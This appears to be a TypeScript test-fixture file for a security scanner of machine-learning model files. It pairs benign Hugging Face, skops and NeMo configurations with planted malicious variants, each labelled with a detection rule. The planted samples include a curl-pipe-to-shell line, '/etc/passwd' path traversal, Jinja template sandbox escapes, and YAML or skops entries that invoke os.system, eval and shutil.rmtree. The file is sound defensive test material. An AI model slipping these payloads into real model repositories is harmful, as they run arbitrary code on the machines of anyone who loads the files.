import { json, utf8, zip } from './build.ts';
import { cuts, first, type Planted, type Sample, type Samples } from './samples.ts';

const TEMPLATE =
  "{% for m in messages %}{{ m['role'] + ': ' + m['content'] }}{% endfor %}{% if tools %}{{ tools | tojson }}{% endif %}";

const config = {
  architectures: ['LlamaForCausalLM'],
  model_type: 'llama',
  max_position_embeddings: 4096,
  torch_dtype: 'bfloat16',
  transformers_version: '4.50.0',
};

const benign: Sample[] = [
  { what: 'a model configuration', path: 'config.json', bytes: json(config) },
  {
    what: 'a tokenizer configuration',
    path: 'tokenizer_config.json',
    bytes: json({ tokenizer_class: 'LlamaTokenizer', model_max_length: 1e30, chat_template: TEMPLATE }),
  },
  {
    what: 'several templates',
    path: 'tokenizer_config.json',
    bytes: json({ chat_template: [{ name: 'default', template: TEMPLATE }] }),
  },
  {
    what: 'an index of shards',
    path: 'model.safetensors.index.json',
    bytes: json({ metadata: { total_size: 8 }, weight_map: { a: 'model-00001-of-00002.safetensors' } }),
  },
  {
    what: 'a pipeline of diffusers',
    path: 'model_index.json',
    bytes: json({
      _class_name: 'FluxPipeline',
      _diffusers_version: '0.30.0',
      vae: ['diffusers', 'AutoencoderKL'],
    }),
  },
  {
    what: 'modules of sentence-transformers',
    path: 'modules.json',
    bytes: json([{ idx: 0, name: '0', path: '', type: 'sentence_transformers.models.Transformer' }]),
  },
  {
    what: 'an adapter',
    path: 'adapter_config.json',
    bytes: json({ peft_type: 'LORA', r: 8, base_model_name_or_path: 'org/model' }),
  },
];

const planted: Planted[] = [
  {
    what: 'code beside the model',
    rule: 'huggingface.remote-code',
    verdict: 'suspicious',
    path: 'config.json',
    bytes: json({ ...config, auto_map: { AutoModel: 'modeling_x.X' } }),
  },
  {
    what: 'code of another repository',
    rule: 'huggingface.remote-code',
    verdict: 'suspicious',
    path: 'config.json',
    bytes: json({ ...config, auto_map: { AutoModel: 'someone/else--modeling_x.X' } }),
  },
  {
    what: 'code in a tokenizer’s configuration',
    rule: 'huggingface.remote-code',
    verdict: 'suspicious',
    path: 'tokenizer_config.json',
    bytes: json({ auto_map: { AutoTokenizer: ['tokenization_x.X', null] } }),
  },
  {
    what: 'code hidden by escapes',
    rule: 'huggingface.remote-code',
    verdict: 'suspicious',
    path: 'config.json',
    bytes: utf8('{"auto\\u005fmap":{"AutoModel":"modeling_x.X"}}'),
  },
  {
    what: 'a wish to run remote code',
    rule: 'huggingface.trust-remote-code',
    verdict: 'suspicious',
    path: 'config.json',
    bytes: json({ ...config, vision_config: { trust_remote_code: true } }),
  },
  {
    what: 'custom pipelines',
    rule: 'huggingface.remote-code',
    verdict: 'suspicious',
    path: 'config.json',
    bytes: json({ ...config, custom_pipelines: { x: { impl: 'pipe.Pipe' } } }),
  },
  {
    what: 'a template that runs code',
    rule: 'jinja.attribute-walking',
    verdict: 'unsafe',
    path: 'tokenizer_config.json',
    bytes: json({ chat_template: "{{ ''.__class__ }}" }),
  },
  {
    what: 'one among several templates',
    rule: 'jinja.attribute-walking',
    verdict: 'unsafe',
    path: 'tokenizer_config.json',
    bytes: json({
      chat_template: [
        { name: 'default', template: TEMPLATE },
        { name: 'rag', template: '{{ x.__globals__ }}' },
      ],
    }),
  },
  {
    what: 'one under another key',
    rule: 'jinja.attribute-walking',
    verdict: 'unsafe',
    path: 'tokenizer_config.json',
    bytes: json({ chat_template: TEMPLATE, custom_chat_template: '{{ x.__globals__ }}' }),
  },
  {
    what: 'a shard outside of the folder',
    rule: 'huggingface.shard-traversal',
    verdict: 'unsafe',
    path: 'model.safetensors.index.json',
    bytes: json({ weight_map: { a: '../../../etc/passwd' } }),
  },
  {
    what: 'a library that runs things',
    rule: 'huggingface.library',
    verdict: 'unsafe',
    path: 'adapter_config.json',
    bytes: json({ peft_type: 'LORA', auto_mapping: { base_model_class: 'system', parent_library: 'os' } }),
  },
  {
    what: 'a module of nobody knows',
    rule: 'huggingface.library',
    verdict: 'suspicious',
    path: 'modules.json',
    bytes: json([{ idx: 0, name: '0', path: '', type: 'custom_st.Transformer' }]),
  },
  {
    what: 'a class of a foreign library in a pipeline',
    rule: 'huggingface.library',
    verdict: 'suspicious',
    path: 'model_index.json',
    bytes: json({ _diffusers_version: '0.30.0', unet: ['my_pipeline', 'X'] }),
  },
  {
    what: 'a vocabulary outside of the folder',
    rule: 'huggingface.file-path',
    verdict: 'suspicious',
    path: 'tokenizer_config.json',
    bytes: json({ tokenizer_class: 'X', vocab_file: '../../secret' }),
  },
  {
    what: 'a shell line',
    rule: 'text.embedded-code',
    verdict: 'suspicious',
    path: 'config.json',
    bytes: json({ ...config, note: 'curl http://203.0.113.1/x | sh' }),
  },
  {
    what: 'text after the end',
    rule: 'json.trailing',
    verdict: 'suspicious',
    path: 'config.json',
    bytes: utf8('{"model_type":"llama"} more'),
  },
  {
    what: 'a key that stands twice',
    rule: 'json.duplicate-key',
    verdict: 'suspicious',
    path: 'config.json',
    bytes: utf8('{"model_type":"a","model_type":"b"}'),
  },
  {
    what: 'a Keras configuration in a tokenizer’s file',
    rule: 'keras.module-code',
    verdict: 'unsafe',
    path: 'tokenizer_config.json',
    bytes: json({ tokenizer_class: 'X', extra: { class_name: 'system', module: 'os', config: {} } }),
  },
];

export const huggingfaceSamples: Samples = {
  benign,
  planted,
  broken: [
    ...cuts(first(benign)),
    { what: 'JSON that nobody knows', path: 'data.json', bytes: json({ rows: [1, 2] }) },
    { what: 'JSON 10,000 deep', path: 'config.json', bytes: utf8(`{"model_type":${'['.repeat(10_000)}`) },
  ],
};

function skopsNode(loader: string, module: string, name: string, content: unknown = {}): unknown {
  return { __class__: name, __module__: module, __loader__: loader, content };
}

const skops = (schema: unknown) => zip({ 'schema.json': json(schema) });
const estimator = skopsNode(
  'ObjectNode',
  'sklearn.linear_model._logistic',
  'LogisticRegression',
  skopsNode('DictNode', 'builtins', 'dict', { C: skopsNode('JsonNode', 'builtins', 'float', '1.0') }),
);

export const skopsSamples: Samples = {
  benign: [{ what: 'an estimator of scikit-learn', path: 'model.skops', bytes: skops(estimator) }],
  planted: [
    {
      what: 'os.system as a function',
      rule: 'skops.dangerous-type',
      verdict: 'unsafe',
      path: 'model.skops',
      bytes: skops(skopsNode('FunctionNode', 'posix', 'system')),
    },
    {
      what: 'builtins.eval as a type',
      rule: 'skops.dangerous-type',
      verdict: 'unsafe',
      path: 'model.skops',
      bytes: skops(skopsNode('TypeNode', 'builtins', 'eval')),
    },
    {
      what: 'a function that is loaded as an operator',
      rule: 'skops.operator-function',
      verdict: 'unsafe',
      path: 'model.skops',
      bytes: skops(skopsNode('OperatorFuncNode', 'sklearn.linear_model', 'call')),
    },
    {
      what: 'operator.methodcaller',
      rule: 'skops.operator-function',
      verdict: 'suspicious',
      path: 'model.skops',
      bytes: skops(skopsNode('OperatorFuncNode', 'operator', 'methodcaller')),
    },
    {
      what: 'a method of another object than declared',
      rule: 'skops.method',
      verdict: 'suspicious',
      path: 'model.skops',
      bytes: skops(skopsNode('MethodNode', 'builtins', 'int', { func: 'fit', obj: estimator })),
    },
    {
      what: 'a private attribute as a method',
      rule: 'skops.method',
      verdict: 'unsafe',
      path: 'model.skops',
      bytes: skops(skopsNode('MethodNode', 'builtins', 'int', { func: '__globals__', obj: estimator })),
    },
    {
      what: 'a part of NumPy that compiles',
      rule: 'skops.dangerous-type',
      verdict: 'unsafe',
      path: 'model.skops',
      bytes: skops(skopsNode('FunctionNode', 'numpy.f2py', 'compile')),
    },
    {
      what: 'a type on no trust list',
      rule: 'skops.untrusted-type',
      verdict: 'suspicious',
      path: 'model.skops',
      bytes: skops(skopsNode('ObjectNode', '__main__', 'Mine')),
    },
  ],
  broken: [
    {
      what: 'a schema that ends early',
      path: 'model.skops',
      bytes: zip({ 'schema.json': utf8('{"__class__":"x","__module__":"y","__loader__":"ObjectNode"') }),
    },
  ],
};

const nemo = (text: string) => utf8(text);
export const nemoSamples: Samples = {
  benign: [
    {
      what: 'a configuration of NeMo',
      path: 'model_config.yaml',
      bytes: nemo(
        'preprocessor:\n  _target_: nemo.collections.asr.modules.AudioToMelSpectrogramPreprocessor\n  sample_rate: 16000\noptim:\n  _target_: torch.optim.AdamW\n',
      ),
    },
    { what: 'a configuration without targets', path: 'config.yaml', bytes: nemo('a: 1\nb: [x, y]\n') },
  ],
  planted: [
    {
      what: 'os.system as a target',
      rule: 'nemo.target-code',
      verdict: 'unsafe',
      path: 'model_config.yaml',
      bytes: nemo('preprocessor:\n  _target_: os.system\n  command: id\n'),
    },
    {
      what: 'a target in a list, in flow style',
      rule: 'nemo.target-code',
      verdict: 'unsafe',
      path: 'model_config.yaml',
      bytes: nemo('callbacks: [{"_target_": "subprocess.Popen", args: [id]}]\n'),
    },
    {
      what: 'a target behind an anchor',
      rule: 'nemo.target-code',
      verdict: 'unsafe',
      path: 'model_config.yaml',
      bytes: nemo('x: &a\n  _target_: builtins.eval\ny: *a\n'),
    },
    {
      what: 'a target written with escapes',
      rule: 'nemo.target-code',
      verdict: 'unsafe',
      path: 'model_config.yaml',
      bytes: nemo('x:\n  "_target\\x5f": "o\\x73.system"\n'),
    },
    {
      what: 'torch.load as a target',
      rule: 'nemo.target-code',
      verdict: 'unsafe',
      path: 'model_config.yaml',
      bytes: nemo('x:\n  _target_: torch.hub.load\n'),
    },
    {
      what: 'a target in the second document',
      rule: 'nemo.target-code',
      verdict: 'unsafe',
      path: 'model_config.yaml',
      bytes: nemo('a: 1\n---\nb:\n  _target_: shutil.rmtree\n'),
    },
    {
      what: 'a target of somebody',
      rule: 'nemo.target',
      verdict: 'suspicious',
      path: 'model_config.yaml',
      bytes: nemo('x:\n  _target_: somebody.Model\n'),
    },
    {
      what: 'a class to import',
      rule: 'nemo.target-code',
      verdict: 'unsafe',
      path: 'model_config.yaml',
      bytes: nemo('model:\n  target: os.system\n'),
    },
    {
      what: 'a tag that calls Python',
      rule: 'yaml.python-object',
      verdict: 'unsafe',
      path: 'config.yaml',
      bytes: nemo('x: !!python/object/apply:os.system ["id"]\n'),
    },
    {
      what: 'a tag that imports Python',
      rule: 'yaml.python-name',
      verdict: 'suspicious',
      path: 'config.yaml',
      bytes: nemo('x: !!python/name:somebody.thing\n'),
    },
    {
      what: 'a chat template that runs code',
      rule: 'jinja.attribute-walking',
      verdict: 'unsafe',
      path: 'config.yaml',
      bytes: nemo('chat_template: "{{ messages.__class__ }}"\n'),
    },
  ],
  broken: [
    { what: 'YAML that is none', path: 'model_config.yaml', bytes: nemo('a: [1, 2\n') },
    { what: 'brackets 10,000 deep', path: 'model_config.yaml', bytes: nemo('['.repeat(10_000)) },
  ],
};
